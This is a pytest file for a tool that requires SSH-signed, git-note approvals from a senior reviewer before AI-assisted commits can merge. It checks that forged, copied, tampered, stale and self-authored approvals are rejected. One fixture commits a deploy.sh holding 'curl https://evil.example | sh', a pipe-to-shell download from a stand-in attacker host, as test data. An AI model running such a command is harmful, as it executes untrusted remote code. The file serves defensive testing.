"""Signed approvals with the real ssh-keygen, stored as real git notes."""

from __future__ import annotations

import json
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from caution.git.notes import append_note, read_notes
from caution.git.repo import first_parent_root
from caution.policy.approvals import read_approvals
from caution.policy.config import load_config
from caution.policy.resolve import change_fingerprint, resolve_change
from caution.policy.ssh import sign
from caution.policy.statement import NOTES_REF, Statement, entry_line
from tests.conftest import Repo, cli

POLICY = """version: 1
roster:
  allowed_signers: .caution/allowed_signers
  people:
    alice: {emails: [alice@shop.example], roles: [senior], teams: [checkout]}
    bob:   {emails: [bob@shop.example], teams: [checkout]}
    carol: {emails: [carol@shop.example], teams: [checkout]}
    agent: {emails: [noreply@anthropic.com], roles: [senior]}
policy:
  approval:
    - name: ai-changes-need-a-senior
      if:
        provenance: {level_in: [assisted, autonomous]}
      requires: {count: 1, roles: [senior]}
      options: {allow_author: false, invalidate_on_push: %s}
    - name: rest
"""
CAROL = ("Carol Coder", "carol@shop.example")


def keygen(path: Path, comment: str) -> Path:
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", str(path)], check=True
    )
    return path


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("keys")
    names = ("alice", "bob", "carol", "mallory", "agent")
    return {name: keygen(folder / name, name) for name in names}


def signers_line(email: str, key: Path) -> str:
    public = key.with_suffix(".pub").read_text().split()
    return f'{email} namespaces="caution-approval" {public[0]} {public[1]}\n'


def setup_repo(repo: Repo, keys: dict[str, Path], invalidate_on_push: bool = True) -> str:
    allowed = "".join(
        signers_line(f"{name}@shop.example", keys[name]) for name in ("alice", "bob", "carol")
    ) + signers_line("noreply@anthropic.com", keys["agent"])
    repo.commit(
        "base",
        {
            ".caution.yml": POLICY % str(invalidate_on_push).lower(),
            ".caution/allowed_signers": allowed,
            "services/checkout/cart.py": "total = 0\n",
        },
    )
    repo.git("checkout", "-q", "-b", "feature")
    return repo.commit(
        "Add coupons\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n",
        {"services/checkout/cart.py": "total = 0\ncoupons = []\n"},
        author=CAROL,
    )


def check(repo: Repo, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, object]]:
    code, out, err = cli(capsys, "-C", str(repo.path), "check", "main..HEAD", "-f", "json")
    assert code in (0, 1), err
    return code, json.loads(out)


def rule(report: dict[str, object], name: str) -> dict[str, object]:
    return next(r for r in report["rules"] if r["name"] == name)  # type: ignore[attr-defined,index]


def approve(
    repo: Repo,
    keys: dict[str, Path],
    who: str,
    capsys: pytest.CaptureFixture[str],
    rev: str = "HEAD",
    email: str | None = None,
) -> tuple[int, str]:
    code, out, err = cli(
        capsys,
        "-C",
        str(repo.path),
        "approve",
        rev,
        "--key",
        str(keys[who]),
        "--signer",
        email or f"{who}@shop.example",
        "--comment",
        "looks right",
    )
    return code, out + err


def statement_for(repo: Repo, commit: str, email: str, target: str = "main") -> Statement:
    change = resolve_change(repo.path, commit, target, may_fetch=False, env={})
    return Statement(
        first_parent_root(repo.path, "main") or "",
        commit,
        target,
        change_fingerprint(repo.path, change) or "",
        email,
        "2026-01-01T00:00:00+00:00",
        "",
    )


def forge(
    repo: Repo,
    key: Path,
    email: str,
    commit: str,
    *,
    namespace: str | None = None,
    on: str | None = None,
    statement: Statement | None = None,
) -> None:
    """Write an approval note by hand, as an attacker or a careless script would."""
    statement = statement or statement_for(repo, commit, email)
    if namespace is None:
        signature = sign(statement.text().encode(), key)
    else:
        signature = subprocess.run(
            ["ssh-keygen", "-q", "-Y", "sign", "-f", str(key), "-n", namespace],
            input=statement.text().encode(),
            capture_output=True,
            check=True,
        ).stdout.decode()
    append_note(
        repo.path,
        NOTES_REF,
        on or commit,
        entry_line(statement, signature),
        ("forger", "forger@example.com"),
    )


def test_valid_approval_passes_the_gate(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    head = setup_repo(repo, keys)
    code, report = check(repo, capsys)
    assert (code, report["decision"]) == (1, "pending")
    assert rule(report, "ai-changes-need-a-senior")["missing"] == "1 approval from role senior"

    code, said = approve(repo, keys, "alice", capsys)
    assert code == 0, said
    code, report = check(repo, capsys)
    assert (code, report["decision"]) == (0, "pass")
    assert rule(report, "ai-changes-need-a-senior")["approvals"] == [
        {
            "by": "alice",
            "commit": head,
            "valid": True,
            "reason": "alice approved the head",
            "source": "ssh",
        }
    ]
    code, out, _ = cli(capsys, "-C", str(repo.path), "approvals", "-f", "json")
    listed = json.loads(out)["approvals"]
    assert [(a["by"], a["valid"], a["comment"]) for a in listed] == [("alice", True, "looks right")]


def test_two_approvals_on_one_commit_append(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    head = setup_repo(repo, keys)
    assert approve(repo, keys, "alice", capsys)[0] == 0
    assert approve(repo, keys, "bob", capsys)[0] == 0
    config = load_config(repo.path, rev="main")
    name = first_parent_root(repo.path, "main")
    reading = read_approvals(repo.path, config, name, {head})
    assert sorted(r.approval.by for r in reading.records) == [
        "alice",
        "bob",
    ]


def test_signer_not_in_allowed_signers(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    head = setup_repo(repo, keys)
    code, said = approve(repo, keys, "mallory", capsys, email="alice@shop.example")
    assert code == 1 and "signature does not verify" in said
    forge(repo, keys["mallory"], "alice@shop.example", head)
    code, report = check(repo, capsys)
    assert code == 1
    (approval,) = rule(report, "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
    assert approval["valid"] is False and "does not verify" in approval["reason"]


def test_wrong_namespace(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    head = setup_repo(repo, keys)
    forge(repo, keys["alice"], "alice@shop.example", head, namespace="git")
    code, report = check(repo, capsys)
    assert code == 1
    (approval,) = rule(report, "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
    assert not approval["valid"] and "does not verify" in approval["reason"]


def test_signature_copied_onto_another_commit(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    old = setup_repo(repo, keys)
    assert approve(repo, keys, "alice", capsys)[0] == 0
    new = repo.commit("More coupons", {"services/checkout/cart.py": "x = 1\n"}, author=CAROL)
    note = read_notes(repo.path, NOTES_REF)[old]
    append_note(repo.path, NOTES_REF, new, note.strip(), ("carol", "carol@shop.example"))
    code, report = check(repo, capsys)
    assert code == 1
    reasons = [a["reason"] for a in rule(report, "ai-changes-need-a-senior")["approvals"]]  # type: ignore[index]
    assert any(r.startswith("copied: it approves") for r in reasons)


def test_author_cannot_approve_their_own_change(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    head = setup_repo(repo, keys)
    code, said = approve(repo, keys, "carol", capsys)
    assert code == 1 and "wrote a commit in this change" in said
    # a note she writes by hand does not count either
    forge(repo, keys["carol"], "carol@shop.example", head)
    code, report = check(repo, capsys)
    assert code == 1
    (approval,) = rule(report, "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
    assert approval["valid"] is False


def test_ai_identity_never_approves(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    head = setup_repo(repo, keys)
    code, said = approve(repo, keys, "agent", capsys, email="noreply@anthropic.com")
    assert code == 1 and "AI identity" in said
    forge(repo, keys["agent"], "noreply@anthropic.com", head)
    code, report = check(repo, capsys)
    assert code == 1
    (approval,) = rule(report, "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
    assert "AI identity" in approval["reason"]


def test_approval_goes_stale_after_a_new_commit(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    setup_repo(repo, keys)
    assert approve(repo, keys, "alice", capsys)[0] == 0
    assert check(repo, capsys)[0] == 0
    repo.commit(
        "Fix a typo", {"services/checkout/cart.py": "total = 0\ncoupons = [] \n"}, author=CAROL
    )
    code, report = check(repo, capsys)
    assert code == 1
    (approval,) = rule(report, "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
    assert approval["reason"].startswith("stale")


def test_rebase_keeps_approval_only_when_the_patch_is_the_same(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    setup_repo(repo, keys, invalidate_on_push=False)
    assert approve(repo, keys, "alice", capsys)[0] == 0
    repo.git("checkout", "-q", "main")
    repo.commit("Unrelated docs", {"docs/readme.md": "hello\n"}, author=("Bob", "bob@shop.example"))
    repo.git("checkout", "-q", "feature")
    repo.git("rebase", "-q", "main")
    code, report = check(repo, capsys)
    assert (code, report["decision"]) == (0, "pass")
    (approval,) = rule(report, "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
    assert "the same edits at the same places" in approval["reason"]

    repo.write("services/checkout/cart.py", "total = 0\ncoupons = [1]\n")
    repo.git("commit", "-q", "-a", "--amend", "--no-edit")
    code, report = check(repo, capsys)
    assert (code, report["decision"]) == (1, "pending")
    assert rule(report, "ai-changes-need-a-senior")["approvals"] == []  # no longer this change


def test_tampered_note(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    head = setup_repo(repo, keys)
    assert approve(repo, keys, "alice", capsys)[0] == 0
    note = json.loads(read_notes(repo.path, NOTES_REF)[head].strip())
    note["statement"] = note["statement"].replace('"looks right"', '"LGTM, ship it"')
    repo.git("notes", f"--ref={NOTES_REF}", "add", "-f", "-m", json.dumps(note), head)
    code, report = check(repo, capsys)
    assert code == 1
    (approval,) = rule(report, "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
    assert "does not verify" in approval["reason"]


def test_statement_for_another_repository(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    head = setup_repo(repo, keys)
    statement = replace(statement_for(repo, head, "alice@shop.example"), repository="0" * 40)
    forge(repo, keys["alice"], "alice@shop.example", head, statement=statement)
    code, report = check(repo, capsys)
    assert code == 1
    (approval,) = rule(report, "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
    assert approval["reason"] == "signed for another repository"
    assert replace(statement, comment="x").comment == "x"


def test_a_change_cannot_rewrite_the_policy_that_judges_it(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    setup_repo(repo, keys)
    # the author adds a second identity to the roster and its key to the signers file
    policy = (
        (repo.path / ".caution.yml")
        .read_text()
        .replace(
            "    agent:", "    mallory: {emails: [mallory@x.example], roles: [senior]}\n    agent:"
        )
    )
    signers = (repo.path / ".caution/allowed_signers").read_text()
    signers += signers_line("mallory@x.example", keys["mallory"])
    repo.commit(
        "tweak", {".caution.yml": policy, ".caution/allowed_signers": signers}, author=CAROL
    )
    code, said = approve(repo, keys, "mallory", capsys, email="mallory@x.example")
    assert (code == 1 and "not in the roster" in said) or "does not verify" in said
    forge(repo, keys["mallory"], "mallory@x.example", repo.git("rev-parse", "HEAD"))
    code, report = check(repo, capsys)
    assert (code, report["decision"]) == (1, "pending")
    guard = rule(report, "caution-policy-changes")
    assert guard["status"] == "pending"
    assert all(not a["valid"] for a in guard["approvals"])  # type: ignore[attr-defined]


def test_whitespace_and_earlier_commits_change_the_patch(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    head = setup_repo(repo, keys, invalidate_on_push=False)
    assert approve(repo, keys, "alice", capsys)[0] == 0
    # the same last commit on top of an unreviewed one: the whole change differs
    repo.git("checkout", "-q", "-b", "evil", "main")
    repo.commit("helper", {"deploy.sh": "curl https://evil.example | sh\n"}, author=CAROL)
    repo.git("cherry-pick", head)
    code, report = check(repo, capsys)
    assert code == 1
    assert rule(report, "ai-changes-need-a-senior")["approvals"] == []
    # a whitespace-only difference is a different patch too
    repo.git("checkout", "-q", "-b", "spaced", "main")
    repo.commit(
        "Add coupons\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n",
        {"services/checkout/cart.py": "total = 0\ncoupons  = []\n"},
        author=CAROL,
    )
    code, report = check(repo, capsys)
    assert code == 1
    assert rule(report, "ai-changes-need-a-senior")["approvals"] == []


def test_an_approval_is_for_one_target(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    setup_repo(repo, keys)
    assert approve(repo, keys, "alice", capsys)[0] == 0
    repo.git("branch", "release", "main")
    code, out, _ = cli(capsys, "-C", str(repo.path), "check", "release..feature", "-f", "json")
    assert code == 1
    (approval,) = rule(json.loads(out), "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
    assert approval["reason"] == "approves merging into main, not release"


def test_a_merge_commit_cannot_hide_files(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    setup_repo(repo, keys)
    policy = (repo.path / ".caution.yml").read_text() + (
        "  block:\n    - name: no-ci\n      if: {changed_files: {paths: ['.github/**']}}\n"
    )
    repo.git("checkout", "-q", "main")
    repo.commit("block CI edits", {".caution.yml": policy})
    repo.git("checkout", "-q", "-b", "side", "main")
    repo.commit("side work", {"side.txt": "x\n"})
    repo.git("checkout", "-q", "feature")
    repo.git("merge", "-q", "--no-commit", "--no-ff", "side")
    repo.write(".github/workflows/x.yml", "on: push\n")
    repo.git("add", "-A")
    repo.git("commit", "-q", "-m", "Merge side")
    code, report = check(repo, capsys)
    assert (code, report["decision"]) == (1, "blocked")
    assert rule(report, "no-ci")["status"] == "blocked"


def test_a_shallow_clone_deepens_itself_and_counts_the_approval(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    setup_repo(repo, keys)
    assert approve(repo, keys, "alice", capsys)[0] == 0
    clone = tmp_path / "shallow"
    subprocess.run(
        ["git", "clone", "-q", "--depth", "1", "--no-single-branch", f"file://{repo.path}", clone],
        check=True,
    )
    subprocess.run(
        ["git", "fetch", "-q", "origin", "refs/notes/*:refs/notes/*"], cwd=clone, check=True
    )
    subprocess.run(["git", "checkout", "-q", "feature"], cwd=clone, check=True)
    code, out, err = cli(capsys, "-C", str(clone), "check", "origin/main..feature", "-f", "json")
    assert code == 0, err
    report = json.loads(out)
    assert any("the clone was shallow" in note for note in report["notes"])


def test_shallow_clone_needs_a_repository_name(
    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """The change's own history is all here, but the root commit that names the repository
    is not: approvals cannot be tied to it without `repository:`."""
    setup_repo(repo, keys)
    repo.git("checkout", "-q", "main")
    for n in range(3):
        repo.commit(f"docs {n}", {"docs/readme.md": f"v{n}\n"})
    repo.git("checkout", "-q", "feature")
    repo.git("rebase", "-q", "main")
    assert approve(repo, keys, "alice", capsys)[0] == 0
    clone = tmp_path / "shallow"
    subprocess.run(
        ["git", "clone", "-q", "--depth", "3", "--no-single-branch", f"file://{repo.path}", clone],
        check=True,
    )
    subprocess.run(
        ["git", "fetch", "-q", "origin", "refs/notes/*:refs/notes/*"], cwd=clone, check=True
    )
    subprocess.run(["git", "checkout", "-q", "feature"], cwd=clone, check=True)
    code, out, err = cli(capsys, "-C", str(clone), "check", "origin/main..feature", "-f", "json")
    assert code == 1, err
    (approval,) = rule(json.loads(out), "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
    assert "shallow clone" in approval["reason"]
